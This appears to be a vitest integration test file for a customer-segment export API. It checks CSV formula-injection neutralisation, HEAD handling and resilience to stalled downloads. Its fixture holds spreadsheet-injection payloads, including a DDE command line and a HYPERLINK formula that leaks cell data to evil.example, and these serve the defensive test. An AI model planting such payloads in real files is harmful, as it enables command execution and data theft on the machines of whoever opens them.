import net from 'node:net';
import { sql } from 'drizzle-orm';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_KEY, auth, eventually, settle, startService, type TestService } from './harness.ts';

const HOSTILE = [
  { id: "=cmd|' /C calc'!A0", email: '=HYPERLINK("http://evil.example/?leak="&A1,"open")@x.example', region: '+SUM(1+1)' },
  { id: '=HYPERLINK("http://evil.example","x")', email: '@SUM(A1:A9)', region: '-2+3' },
  { id: 'safe-1', email: 'alice@example.com', region: '\t=1' },
];

async function putSegment(svc: TestService, key: string, rule: object) {
  const res = await svc.app.inject({ method: 'PUT', url: `/v1/segments/${key}`, headers: auth(), payload: { name: key, rule } });
  expect(res.statusCode, res.body).toBe(202);
  await eventually(async () => {
    const job = (await svc.app.inject({ method: 'GET', url: `/v1/jobs/${res.json().job_id}`, headers: auth() })).json();
    return job.status === 'completed' ? true : undefined;
  }, 60_000, 'segment membership');
}

describe('segment exports: formula-leading cells', () => {
  let svc: TestService;
  const errors: { msg: string }[] = [];
  beforeAll(async () => {
    svc = await startService({ logger: pino({ level: 'error' }, { write: (line: string) => void errors.push(JSON.parse(line) as { msg: string }) }) });
    const events = HOSTILE.map((c, i) => ({
      id: `csv-${i}`, type: 'customer', customer_id: c.id, occurred_at: '2026-01-01T00:00:00Z',
      traits: { email: c.email, region: c.region },
    }));
    const res = await svc.app.inject({ method: 'POST', url: '/v1/events/batch', headers: auth(), payload: { events } });
    expect(res.statusCode, res.body).toBe(202);
    await settle(svc, events.length);
    await putSegment(svc, 'everyone', { field: 'order_count', op: 'gte', value: 0 });
  });
  afterAll(async () => svc?.close());

  it('prefixes a quote to CSV cells starting with =, +, -, @ or a tab, and leaves NDJSON verbatim', async () => {
    const csv = await svc.app.inject({ method: 'GET', url: '/v1/segments/everyone/export?format=csv', headers: auth() });
    expect(csv.statusCode).toBe(200);
    const { parse } = await import('csv-parse/sync');
    const rows: Record<string, string>[] = parse(csv.body, { columns: true });
    expect(rows).toHaveLength(HOSTILE.length);
    const byId = new Map(rows.map((r) => [r.customer_id!, r]));
    const neutral = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    for (const c of HOSTILE) {
      const row = byId.get(neutral(c.id));
      expect(row, c.id).toBeDefined();
      expect(row!.email).toBe(neutral(c.email));
      expect(row!.region).toBe(neutral(c.region));
    }
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    expect(byId.get('safe-1')!.email).toBe('alice@example.com');

    const ndjson = await svc.app.inject({ method: 'GET', url: '/v1/segments/everyone/export?format=ndjson', headers: auth() });
    const lines = ndjson.body.trim().split('\n').map((l) => JSON.parse(l) as { customer_id: string; email: string; region: string });
    expect(lines.map((l) => [l.customer_id, l.email, l.region]).sort()).toEqual(HOSTILE.map((c) => [c.id, c.email, c.region]).sort());
  });

  it('answers HEAD with the headers of the download and starts no export', async () => {
    for (const format of ['csv', 'ndjson']) {
      const head = await svc.app.inject({ method: 'HEAD', url: `/v1/segments/everyone/export?format=${format}`, headers: auth() });
      expect(head.statusCode).toBe(200);
      expect(head.headers['content-type']).toBe(format === 'csv' ? 'text/csv; charset=utf-8' : 'application/x-ndjson');
      expect(head.headers['content-disposition']).toBe(`attachment; filename="everyone.${format}"`);
      expect(head.body).toBe('');
    }
    // An export started for a HEAD would be cut off and logged as an error.
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(errors.map((e) => e.msg)).toEqual([]);
  });
});

describe('segment exports: clients that never read', () => {
  let svc: TestService;
  let port: number;
  const MEMBERS = 100_000;
  beforeAll(async () => {
    svc = await startService({ config: { EXPORT_POOL_SIZE: 2, EXPORT_WAIT_MS: 500, EXPORT_STALL_TIMEOUT_MS: 1_500, DB_POOL_SIZE: 4 } });
    await svc.app.listen({ port: 0, host: '127.0.0.1' });
    port = (svc.app.server.address() as { port: number }).port;
    // A big segment written directly: members with wide rows, so a download far exceeds the socket buffers.
    await svc.deps.db.execute(sql`insert into customers (id, traits, region)
      select 'big-' || lpad(g::text, 7, '0'), jsonb_build_object('email', 'member-' || g || '@' || repeat('x', 120) || '.example'), 'EU'
      from generate_series(1, ${MEMBERS}) g`);
    await svc.deps.db.execute(sql`insert into segments (key, name, rule, created_at, updated_at)
      values ('big', 'big', '{"field":"order_count","op":"eq","value":0}', now(), now())`);
    await svc.deps.db.execute(sql`insert into segment_members (segment_key, customer_id, entered_at) select 'big', id, now() from customers where id like 'big-%'`);
  });
  afterAll(async () => svc?.close());

  /** Asks for the export and then never reads a byte. */
  function stalledDownload(): Promise<net.Socket> {
    return new Promise((resolve, reject) => {
      const socket = net.connect(port, '127.0.0.1', () => {
        socket.write(`GET /v1/segments/big/export?format=csv HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${ADMIN_KEY}\r\n\r\n`);
        socket.pause();
        resolve(socket);
      });
      socket.on('error', reject);
    });
  }
  const exportConnections = async () =>
    (await svc.deps.db.execute<{ n: number }>(sql`select count(*)::int n from pg_stat_activity where datname = current_database() and application_name = 'tierwise-export'`)).rows[0]!.n;

  it('does not freeze readiness, customer reads or ingest, and drops the stalled downloads', { timeout: 60_000 }, async () => {
    const sockets = await Promise.all(Array.from({ length: 12 }, stalledDownload));
    try {
      // The exports that got a connection are blocked on their unread sockets.
      await eventually(async () => ((await exportConnections()) === 2 ? true : undefined), 10_000, 'two export connections');
      const base = `http://127.0.0.1:${port}`;
      const ready = await fetch(`${base}/readyz`, { signal: AbortSignal.timeout(3_000) });
      expect(ready.status).toBe(200);
      const customer = await fetch(`${base}/v1/customers/big-0000001`, { headers: auth(), signal: AbortSignal.timeout(3_000) });
      expect(customer.status).toBe(200);
      const posted = await fetch(`${base}/v1/events`, {
        method: 'POST',
        headers: { ...auth(), 'content-type': 'application/json' },
        body: JSON.stringify({ id: 'during-stall', type: 'order', customer_id: 'c-stall', occurred_at: '2026-01-01T00:00:00Z', order_id: 'o-1', amount: '10.00' }),
        signal: AbortSignal.timeout(3_000),
      });
      expect(posted.status).toBe(202);
      // Stored by the ingest worker while the downloads are still stalled.
      await eventually(async () => {
        const stored = await fetch(`${base}/v1/events/during-stall`, { headers: auth() });
        return stored.status === 200 ? true : undefined;
      }, 10_000, 'the event stored during the stall');
      // An export beyond the pool waits EXPORT_WAIT_MS, then is told to retry.
      const extra = await fetch(`${base}/v1/segments/big/export`, { headers: auth(), signal: AbortSignal.timeout(5_000) });
      expect([200, 503]).toContain(extra.status);
      if (extra.status === 503) expect(extra.headers.get('content-type')).toMatch(/problem\+json/);
      else await extra.body?.cancel();
      // The stall timeout drops every unread download and gives back its connection.
      await eventually(async () => ((await exportConnections()) === 0 ? true : undefined), 10_000, 'export connections released');
      expect(svc.deps.exportPool.waitingCount).toBe(0);
    } finally {
      for (const s of sockets) s.destroy();
    }
  });

  it('still serves a complete export to a client that reads', async () => {
    const res = await fetch(`http://127.0.0.1:${port}/v1/segments/big/export?format=ndjson`, { headers: auth() });
    expect(res.status).toBe(200);
    const lines = (await res.text()).trim().split('\n');
    expect(lines).toHaveLength(MEMBERS);
  });
});
